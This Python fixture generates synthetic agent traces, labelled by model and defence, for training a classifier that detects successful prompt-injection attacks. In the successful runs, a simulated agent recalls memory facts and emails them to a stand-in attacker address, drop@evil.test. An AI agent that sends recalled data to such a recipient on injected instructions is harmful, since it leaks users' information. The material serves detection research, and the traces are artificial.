"""Made-up runs, large enough to grow trees on."""

import json

ATTACKER = "drop@evil.test"


def call(tool, session="3", to=()):
    """Return one recorded call as JSON."""
    args = {"to": list(to)} if to else {}
    return {"i": 0, "session": session, "tool": tool, "args": args}


def run(number, *, success, defense="none"):
    """Return a run that recalls before it sends if and only if the attack succeeds."""
    recalls = [call("memory_recall_fact")] * (1 + number % 3) if success else []
    to = [ATTACKER] if success else ["team@corp.test"]
    calls = [
        call("rag_query", "0"),
        *([call("memory_list_all_facts")] * (number % 2)),
        *recalls,
        call("email_send_email", to=to),
    ]
    return {
        "run_id": f"r{number}",
        "calls": calls,
        "labels": {
            "attack": True,
            "attack_success": success,
            "attacker_recipients": [ATTACKER],
            "model": f"m{number % 3}",
            "defense": defense,
            "duplicate_group": number,
        },
    }


def runs(count=60):
    """Return runs of three models and two defences, both classes in each cell."""
    return [
        run(n, success=(n // 6) % 2 == 0, defense=("none", "filter")[(n // 3) % 2])
        for n in range(count)
    ]


def write_traces(path, documents):
    """Write a trace file and return its path."""
    path.write_text("".join(json.dumps(d) + "\n" for d in documents), encoding="utf-8")
    return path
